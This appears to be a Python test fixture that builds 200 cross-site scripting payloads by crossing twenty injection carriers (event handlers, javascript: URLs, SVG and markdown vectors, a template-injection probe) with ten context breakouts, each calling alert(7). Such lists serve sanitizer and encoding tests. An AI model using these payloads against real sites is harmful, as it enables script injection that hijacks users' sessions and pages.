"""Two hundred texts that would run a script where output is not encoded; composed, none copied."""

from itertools import product

CALL = "alert(7)"
CARRIERS = [
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@import 'javascript:{}';</style>",
    "[x](javascript:{})",
    '![x](x" onerror="{})',
    "<div style=\"background:url('javascript:{}')\">",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "{{% raw %}}<script>{}</script>{{{{7*7}}}}",
]
BREAKOUTS = ["", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "`>", "]]>", "\u2028"]
PAYLOADS = [out + carrier.format(CALL) for carrier, out in product(CARRIERS, BREAKOUTS)]
